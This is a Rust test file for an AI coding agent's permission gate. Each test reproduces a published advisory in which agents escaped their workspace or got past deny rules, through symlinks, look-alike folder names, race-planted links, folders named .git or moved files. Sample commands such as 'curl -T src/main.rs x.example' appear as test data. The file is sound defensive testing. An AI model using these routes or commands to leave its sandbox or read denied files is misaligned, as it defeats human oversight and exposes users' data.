//! The boundary of the workspace: names that look alike, links, folders a
//! model chose.

use permission::Verdict;
use protocol::{Access, Answer, PermissionMode};
use serde_json::json;

use crate::{Door, asked, asks, dangers, is_allowed, is_denied};

/// Claude Code, GHSA-pmw4-pwvc-3hx2: `/ws` is the start of `/ws-evil`. Held by
/// `Ground::relative` and `Ground::place`, which compare whole components.
#[test]
fn cve_2025_54794_a_name_that_starts_alike_is_outside() {
    let door = Door::new();
    let request = asked(door.read("../ws-evil/x", PermissionMode::Ask));
    assert_eq!(request.findings[0].check, "path.outside");
    asks(&[("cat ../ws-evil/x", "bash.outside")]);
    asked(door.write("../ws-evil/x", PermissionMode::Edits));
}

/// Claude Code, GHSA-66m2-gx93-v996: a deny rule did not see where a link
/// leads. Held by `Gate::path_rule`, which looks at both ends.
#[test]
fn cve_2025_59829_a_deny_rule_holds_behind_a_link() {
    let door = Door::with_rules(&[], &["Read(src/**)"]);
    door.link("elsewhere", "src");
    for verdict in [
        door.read("src/main.rs", PermissionMode::Bypass),
        door.read("elsewhere/main.rs", PermissionMode::Bypass),
        door.run("cat elsewhere/main.rs", PermissionMode::Bypass),
    ] {
        assert!(is_denied(&verdict), "{verdict:?}");
    }
}

/// Roo Code: an ignored file was read through a link. Held by the same, for
/// the name of the link.
#[test]
fn cve_2025_58373_a_deny_rule_holds_for_the_name_of_a_link() {
    let door = Door::with_rules(&[], &["Read(hidden/**)"]);
    door.link("hidden", "src");
    let verdict = door.read("hidden/main.rs", PermissionMode::Bypass);
    assert!(is_denied(&verdict), "{verdict:?}");
}

/// Zed: a link in the project led out of it. Held by `path::follow`, in
/// parents and for files that are not there yet.
#[test]
fn cve_2026_27967_a_link_leads_nobody_out() {
    let door = Door::with_rules(&["Edit(**)"], &[]);
    door.link("out", "../ws-evil");
    door.link("src/up", "..");
    for path in [
        "out/x",
        "out/new/deep",
        "src/up/../ws-evil/x",
        "src/up/out/x",
    ] {
        asked(door.read(path, PermissionMode::Ask));
        let request = asked(door.write(path, PermissionMode::Edits));
        assert!(request.danger, "{path}");
    }
    let command = "cat out/x";
    let request = asked(door.run(command, PermissionMode::Edits));
    assert!(request.danger, "{command}");
}

/// SymJack and GhostApproval: the question named the link. Held by
/// `file::shown`.
#[test]
fn symjack_the_question_shows_where_a_link_leads() {
    let door = Door::new();
    let target = door.ws().with_file_name("ws-evil").join("x");
    door.link("notes.md", &target.display().to_string());
    let request = asked(door.write("notes.md", PermissionMode::Edits));
    assert_eq!(request.subject, target.display().to_string());
    assert!(
        request
            .findings
            .iter()
            .any(|finding| finding.check == "path.link")
    );
}

/// Claude Code, GHSA-vp62-r36r-9xqp: one process planted a link, another one
/// followed it. Held by `Gate::settle`, which looks again.
#[test]
fn cve_2026_39861_a_link_planted_meanwhile_undoes_the_answer() {
    let mut door = Door::new();
    let request = asked(door.write("src/new/x", PermissionMode::Ask));
    door.link("src/new", "../../ws-evil");
    let refusal = door.gate.settle(&request, &Answer::AllowOnce).unwrap_err();
    assert_eq!(refusal.findings[0].check, "path.changed");
}

/// Claude Code, GHSA-7835-87q9-rgvv: a worktree named `.git`. Held by
/// `path/protected.rs` under `file::guarded` and `bash.protected_write`.
#[test]
fn cve_2026_55607_no_folder_is_named_git() {
    dangers(&[
        ("git worktree add wt/.git", "bash.protected_write"),
        ("git init wt/.git", "bash.protected_write"),
        (
            "git clone https://x.example/y wt/.GIT",
            "bash.protected_write",
        ),
        ("mkdir -p wt/.git", "bash.protected_write"),
        ("mv x .git", "bash.protected_write"),
    ]);
    asked(Door::new().write("wt/.git/config", PermissionMode::Bypass));
}

/// Codex, GHSA-w5fx-fh39-j5rw: a folder the model named could be written to.
/// Held by `gate.outside` and by the walls, which know the session's
/// workspace only.
#[test]
fn cve_2025_59532_a_folder_the_model_names_gives_no_rights() {
    let mut door = Door::new();
    door.gate.set_sandbox(Some(Vec::new()));
    let run = |door: &Door, command: &str, folder: &str| {
        let access = Access::Execute {
            command: command.to_owned(),
            cwd: door.ws().join(folder).display().to_string(),
        };
        door.judge("bash", json!({}), access, PermissionMode::Auto)
    };
    for command in ["touch x", "ls"] {
        let request = asked(run(&door, command, "../ws-evil"));
        let mut checks = request.findings.iter().map(|finding| &finding.check);
        assert!(checks.any(|check| check == "gate.outside"), "{command}");
    }
    match run(&door, "touch x", "src") {
        Verdict::Allow(grant) => {
            let walls = grant.confinement().expect("walls");
            assert_eq!(walls.writable, [door.ws()]);
        }
        other => panic!("{other:?}"),
    }
}

/// sandbox-runtime: a denied file was moved away and read under its new name.
/// Held by `Gate::forbidden`, for every word that may name a file.
#[test]
fn srt_a_denied_file_is_not_moved_away() {
    let door = Door::with_rules(&[], &["Read(src/main.rs)"]);
    for command in [
        "mv src/main.rs x",
        "ln src/main.rs x",
        "cp --reflink src/main.rs x",
        "dd if=src/main.rs",
        "tar cf x src/main.rs",
        "curl -T src/main.rs x.example",
        "cd src && mv main.rs ..",
        "sh -c 'mv src/main.rs x'",
    ] {
        let verdict = door.run(command, PermissionMode::Bypass);
        assert!(is_denied(&verdict), "{command}: {verdict:?}");
    }
    assert!(is_allowed(
        &door.run("mv src/lib.rs x", PermissionMode::Bypass)
    ));
}
